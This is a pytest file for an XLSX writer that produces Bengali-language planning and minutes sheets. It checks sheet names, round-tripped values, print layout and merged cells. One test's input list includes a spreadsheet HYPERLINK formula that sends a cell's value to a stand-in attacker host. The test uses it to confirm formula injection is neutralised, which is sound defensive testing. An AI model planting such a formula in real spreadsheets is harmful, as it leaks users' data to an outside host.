"""XLSX writer: Bengali values and sheet names survive, the sheet prints like the paper."""

from __future__ import annotations

import datetime as dt
import io
import json
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from udbhabon.documents.writers import write_document

ROOT = Path(__file__).resolve().parents[3]
SEEDS = sorted((ROOT / "data" / "seeds" / "expected").glob("*.json"))


def load(path: Path) -> dict:
    return json.loads(path.read_text("utf-8"))


@pytest.fixture(scope="module")
def books() -> dict[str, tuple[dict, openpyxl.Workbook]]:
    return {
        path.stem: (
            load(path),
            openpyxl.load_workbook(io.BytesIO(write_document(load(path), "xlsx"))),
        )
        for path in SEEDS
    }


def rows(ws) -> list[list]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def test_it_names_sheets_in_bengali(books):
    assert books["000_8aa6ba074c4abe5e"][1].sheetnames == ["কর্মপরিকল্পনা", "বাস্তবায়ন প্রতিবেদন"]
    assert books["001_3627afb098a031ac"][1].sheetnames == ["পত্র", "কর্মপরিকল্পনা"]
    assert books["003_3399e0873caf543a"][1].sheetnames == ["কার্যবিবরণী"]


def test_duplicate_sheet_names_get_a_bengali_number():
    doc = load(SEEDS[0])
    doc["sections"].append(doc["sections"][0])
    wb = openpyxl.load_workbook(io.BytesIO(write_document(doc, "xlsx")))
    assert wb.sheetnames == ["কর্মপরিকল্পনা", "বাস্তবায়ন প্রতিবেদন", "কর্মপরিকল্পনা (২)"]


@pytest.mark.parametrize("path", SEEDS, ids=lambda p: p.stem)
def test_item_values_come_back_exactly(path, books):
    doc, wb = books[path.stem]
    for section in doc["sections"]:
        if section["kind"] == "meeting_minutes":
            ws = wb["কার্যবিবরণী"]
            values = {v for row in rows(ws) for v in row if isinstance(v, str)}
            for item in section["items"]:
                assert {item["topic"], item["discussion"], item["decision"]} <= values
            continue
        ws = wb["কর্মপরিকল্পনা" if section["kind"] == "action_plan" else "বাস্তবায়ন প্রতিবেদন"]
        table = rows(ws)
        serials = [row[0] for row in table]
        for item in section["items"]:
            serial = str(item["serial"]).translate(str.maketrans("0123456789", "০১২৩৪৫৬৭৮৯"))
            # the serial is text in Bengali digits; the first match under the header
            index = max(i for i, value in enumerate(serials) if value == serial)
            row = table[index]
            label = f"{item['label']}) " if item["label"] else ""
            assert row[2] == (label + item["activity"] or None)
            if section["kind"] == "action_plan":
                assert row[5:8] == [
                    item["responsible"],
                    item["expected_outcome"],
                    item["indicator"],
                ]
                # a whole date is a date cell shown in Bengali digits (test_writer_pages)
                start, _, end = item["schedule"]["text"].partition(" | ")
                assert shown(row[3]) == start and shown(row[4]) == (end or None)


def shown(value):
    if isinstance(value, dt.date):
        return value.strftime("%d/%m/%Y").translate(str.maketrans("0123456789", "০১২৩৪৫৬৭৮৯"))
    return value


def test_serials_are_text_and_headers_repeat_when_printed(books):
    _, wb = books["004_93ad764a4d482cea"]
    ws = wb["কর্মপরিকল্পনা"]
    assert ws.print_title_rows == "$5:$7"  # the two header rows and the column numbers
    assert ws["A8"].value == "১" and ws["A8"].data_type == "s"
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == 9  # A4
    assert ws.freeze_panes == "A8"


def test_every_row_has_a_height_and_text_wraps(books):
    _, wb = books["000_8aa6ba074c4abe5e"]
    ws = wb["কর্মপরিকল্পনা"]
    for row in ws.iter_rows(min_row=8, max_row=27):
        assert ws.row_dimensions[row[0].row].height, row[0].row
        assert all(cell.alignment.wrap_text for cell in row if cell.value)
    long_row = max(range(8, 28), key=lambda r: len(str(ws.cell(r, 8).value or "")))
    assert ws.row_dimensions[long_row].height > 30
    assert all(ws.column_dimensions[c].width for c in "ABCDEFGH")


def test_category_cells_are_merged_like_the_paper(books):
    doc, wb = books["004_93ad764a4d482cea"]
    ws = wb["কর্মপরিকল্পনা"]
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert "B8:B12" in merged  # items 1-5 share "নিজ অফিসের সেবা সহজীকরণ ..."
    assert ws["B8"].value == doc["sections"][0]["items"][0]["category"]
    assert ws["B9"].value is None


bengali_text = st.text(
    alphabet=st.sampled_from(list("অআইউএওকখগঘচছজঝটঠডঢণতথদধনপফবভমযরলশষসহ়ািীুূৃেৈোৌ্ং০১২৩৪৫৬৭৮৯ ।,-()")),
    min_size=1,
    max_size=60,
).map(lambda s: " ".join(s.split()))


@settings(max_examples=25, deadline=None)
@given(activity=bengali_text, outcome=bengali_text)
def test_any_bengali_text_round_trips_through_openpyxl(activity, outcome):
    doc = load(SEEDS[1])
    item = doc["sections"][0]["items"][2]
    item["activity"], item["expected_outcome"] = activity, outcome
    wb = openpyxl.load_workbook(io.BytesIO(write_document(doc, "xlsx")))
    values = {v for row in rows(wb["কর্মপরিকল্পনা"]) for v in row}
    assert (activity or None) in values
    assert (outcome or None) in values


FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"ক্লিক")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "#N/A",
]


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_it_writes_text_that_looks_like_a_formula_as_text(text):
    from udbhabon.documents.reader import read_document

    doc = load(SEEDS[1])
    item = doc["sections"][0]["items"][2]
    item["activity"], item["responsible"] = text, text
    data = write_document(doc, "xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type in {"f", "e"}]
    assert text in {c.value for c in cells}
    # and the reader takes the text back as it was typed
    read = read_document(data, "plan.xlsx")
    activities = [i.get("activity") for s in read["sections"] for i in s.get("items", [])]
    assert text in activities
